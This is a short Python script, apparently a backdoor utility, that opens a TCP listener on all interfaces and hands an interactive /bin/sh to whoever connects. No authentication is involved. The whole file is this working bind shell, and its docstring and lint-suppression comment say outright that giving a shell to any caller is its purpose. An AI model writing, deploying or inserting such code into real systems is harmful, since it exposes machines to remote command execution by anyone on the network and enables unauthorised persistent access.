"""A shell for whoever calls, by a program that is called inetd: false_inetd.py PORT; to be run by a copy of Python."""

import os
import signal
import socket
import sys

listener = socket.create_server(("0.0.0.0", int(sys.argv[1])))
os.set_inheritable(listener.fileno(), True)
caller, _ = listener.accept()
if os.fork() == 0:
    for number in (0, 1, 2):
        os.dup2(caller.fileno(), number)
    os.execv("/bin/sh", ["/bin/sh", "-i"])  # noqa: S606 - it is the point
caller.close()
signal.pause()
